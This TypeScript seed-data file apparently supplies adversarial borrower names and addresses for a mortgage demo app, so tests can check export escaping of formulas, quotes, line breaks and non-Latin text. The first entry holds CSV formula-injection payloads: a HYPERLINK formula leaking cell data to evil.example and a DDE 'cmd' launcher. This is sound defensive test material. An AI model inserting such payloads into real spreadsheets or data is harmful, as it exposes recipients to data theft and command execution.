// Loans whose borrower names and property addresses hold what real data holds and attackers
// send: text beginning with =, +, - or @ (spreadsheet formulas), quotes, commas, line breaks, a
// leading tab, and non-Latin letters. They are the loans at the indexes below in every seed
// large enough to reach them (the 200- and 2,000-loan seeds included), are Active, and are
// owned by the admin's default organization (Harborview Mortgage, HMC) and serviced by the
// user's ORG_ADMIN organization (Summit Ridge Home Loans, SRH), so both demo accounts see them.
// Tests find them by borrower name through ADVERSARIAL_LOANS.

export interface AdversarialLoan {
  /** The loan's index in the seed (its random stream). */
  readonly index: number;
  readonly firstName: string;
  readonly lastName: string;
  readonly street1: string;
  readonly street2: string | null;
}

export const ADVERSARIAL_LOANS: readonly AdversarialLoan[] = [
  { index: 8, firstName: '=HYPERLINK("https://evil.example/?q="&A1,"Open")', lastName: '=1+2', street1: "=cmd|' /C calc'!A0", street2: null },
  { index: 9, firstName: '+Plus', lastName: '+SUM(1,2)', street1: '+1 (555) 010-0199 Harbor Way', street2: null },
  { index: 10, firstName: '-Minus', lastName: '-2+3', street1: '-40 Below Zero Rd', street2: '@Suite 5' },
  { index: 11, firstName: '@Handle', lastName: '@SUM(A1:A2)', street1: '@Home, 12 Elm St', street2: null },
  { index: 12, firstName: 'Robert "Bobby"', lastName: "O'Neil, Jr.", street1: '12 "Quoted" Ave, Unit 3', street2: 'Building "B", Floor 2' },
  { index: 13, firstName: 'Line\nBreak', lastName: 'Carriage\r\nReturn', street1: '1 First Line\nSecond Line', street2: '\tTabbed Unit' },
  { index: 14, firstName: '小明', lastName: '王', street1: '北京路88号', street2: '3栋 1201室' },
  { index: 15, firstName: 'محمد', lastName: 'العلي', street1: '٤٥ شارع النيل', street2: null },
  { index: 16, firstName: 'Ирина', lastName: 'Иванова', street1: 'ул. Ленина, д. 10', street2: 'кв. 5' },
  { index: 17, firstName: 'José-María', lastName: 'Núñez Ødegård', street1: "12 Rue de l'Église", street2: 'Bât. Ç' },
];

const BY_INDEX = new Map(ADVERSARIAL_LOANS.map((loan) => [loan.index, loan]));

export const adversarialLoan = (index: number): AdversarialLoan | undefined => BY_INDEX.get(index);
